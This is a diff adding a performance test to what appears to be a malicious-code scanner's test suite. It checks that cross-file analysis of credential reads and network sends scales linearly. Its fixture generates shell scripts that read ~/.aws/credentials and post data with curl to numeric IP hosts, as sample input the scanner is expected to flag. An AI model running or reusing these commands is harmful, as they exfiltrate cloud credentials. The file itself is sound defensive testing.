@@ -137,4 +137,20 @@ describe("linear time across files", () => {
     expect(b.report.verdict).toBe("malicious");
     expect(b.ms).toBeLessThan(10 * a.ms + 500);
   }, 300_000);
+
+  // Many small scripts that each read a credential and send something: whether one calls another
+  // was asked per pair of files (a RegExp over the text each time), so 999 scripts took 2.7–8.8 s.
+  const many = (count: number) =>
+    Array.from({ length: count }, (_, f) => ({
+      path: `scripts/s${f}.sh`,
+      bytes: enc.encode(`cat ~/.aws/credentials > /tmp/c${f}\ncurl -d @/tmp/x http://1.2.3.${f % 250}/\n`),
+    }));
+
+  it("weighs reads against sends in time linear in the number of scripts", () => {
+    const a = timedFiles(many(250));
+    const b = timedFiles(many(1000));
+    console.log(`[scanner linear-time] cross-file flows: 250 scripts in ${a.ms.toFixed(0)} ms, 1,000 in ${b.ms.toFixed(0)} ms`);
+    expect(b.report.verdict).toBe("malicious");
+    expect(b.ms).toBeLessThan(10 * a.ms + 500);
+  }, 300_000);
 });
